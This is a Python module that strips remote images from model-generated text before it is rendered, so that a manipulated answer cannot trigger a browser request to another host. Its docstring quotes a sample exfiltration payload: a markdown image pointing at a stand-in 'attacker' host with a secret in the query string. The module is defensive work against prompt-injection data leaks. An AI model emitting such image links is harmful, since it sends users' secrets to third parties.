"""Model text made safe to render: no image the browser would fetch from another host.

A manipulated answer such as `![x](http://attacker/leak.png?d=<secret>)` makes the browser send the secret the
moment the answer is shown. Remote images become plain text naming the host; the Content-Security-Policy
(sandbox/ui/gate.py) blocks any that slip through.
"""

from __future__ import annotations

import re

# ![alt](url "title"), ![alt][ref] with a definition, and <img ...> tags (any case, any attributes).
MARKDOWN_IMAGE = re.compile(r"!\[(?P<alt>[^\]\n]{0,500})\]\(\s*<?(?P<url>[^)\s>]{0,2000})>?"
                            r"(?:\s+[\"'(][^)]{0,500})?\s*\)")
REFERENCE_IMAGE = re.compile(r"!\[(?P<alt>[^\]\n]{0,500})\]\s?\[[^\]\n]{0,200}\]")
HTML_IMAGE = re.compile(r"<\s*(?:img|image|picture|source|svg|video|audio|iframe|object|embed)\b[^>]{0,4000}>?",
                        re.IGNORECASE)
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)


def _is_local(url: str) -> bool:
    """An inline data image, or a path on this server (no scheme, no network-path "//")."""
    url = url.strip().lower()
    if url.startswith("data:image/"):
        return True
    return not url.startswith(("//", "\\\\", "/\\", "\\/")) and not SCHEME.match(url)


def _host(url: str) -> str:
    found = re.match(r"(?:[a-z][a-z0-9+.-]*:)?//([^/?#\s]{1,200})", url, re.IGNORECASE)
    return found.group(1) if found else "another site"


def no_remote_images(text: str) -> str:
    """`text` with every image reference that could reach another host replaced by a note in words."""
    def markdown(match: re.Match) -> str:
        url = match.group("url")
        if _is_local(url):
            return match.group(0)
        alt = match.group("alt").strip() or "image"
        return f"[image not shown: {alt} from {_host(url)}]"

    text = MARKDOWN_IMAGE.sub(markdown, text)
    text = REFERENCE_IMAGE.sub(lambda m: f"[image not shown: {m.group('alt').strip() or 'image'}]", text)
    return HTML_IMAGE.sub("[embedded content not shown]", text)
